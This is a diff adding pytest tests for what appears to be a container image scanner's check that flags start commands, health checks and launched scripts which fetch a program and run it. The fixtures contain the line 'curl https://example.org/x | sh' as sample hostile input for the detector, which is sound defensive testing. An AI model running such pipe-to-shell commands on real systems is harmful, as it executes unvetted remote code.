@@ -131,3 +131,44 @@ def test_t56_an_environment_of_very_many_folders_is_looked_at_in_no_time() -> No
     names = " ".join(f"x{number}" for number in range(18_000))
     found = in_environment(f"PATH={many}", f"LD_PRELOAD={names}", f"LD_AUDIT={'a' * (1 << 20)}")
     assert {(check, place) for check, place, _ in found} == {("H27", "env LD_PRELOAD")}
+
+
+FETCH = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
+
+
+def started(*command: str, files: dict[str, Content] | None = None, check: bool = False) -> list[tuple[str, str]]:
+    """Where an image that starts so fetches something, and what the finding says."""
+    made = layer(files or {})
+    config = replace(config_of(made), working_directory="/srv")
+    config = replace(config, healthcheck=command) if check else replace(config, command=command)
+    facts = assemble(manifest_of(made), config, [made])
+    return [(one.where, one.detail) for one in facts.weaknesses if one.check == "H37"]
+
+
+@pytest.mark.parametrize("check", [False, True])
+def test_t94_a_command_that_fetches_what_it_runs(check: bool) -> None:
+    ((where, detail),) = started("/bin/sh", "-c", "curl https://example.org/x | sh", check=check)
+    assert where == "the image configuration"
+    assert detail == f"{'the health check' if check else 'the command'} fetches a program and runs it"
+    assert [detail for _, detail in started("sh", "-c", "apt-get install -y x && x", check=check)] == [
+        f"{'the health check' if check else 'the command'} installs packages"
+    ]
+    assert started("curl", "-f", "http://localhost/health", check=check) == []
+
+
+@pytest.mark.parametrize(
+    ("command", "path"),
+    [
+        (("/opt/start",), "opt/start"),
+        (("sh", "/opt/start", "now"), "opt/start"),
+        (("/bin/sh", "-c", "exec /opt/start&& true"), "opt/start"),
+        (("./start",), "srv/start"),
+        (("start",), "usr/local/bin/start"),
+    ],
+)
+def test_t94_a_script_that_the_command_names(command: tuple[str, ...], path: str) -> None:
+    assert started(*command, files={path: File(FETCH, 0o755)}) == [
+        (path, "line 2 fetches a program and runs it, and the container starts with it")
+    ]
+    assert started(*command, files={path: Link("/x/y"), "x/y": File(FETCH, 0o755)})[0][0] == "x/y"
+    assert started("/bin/app", files={path: File(FETCH, 0o755)}) == []
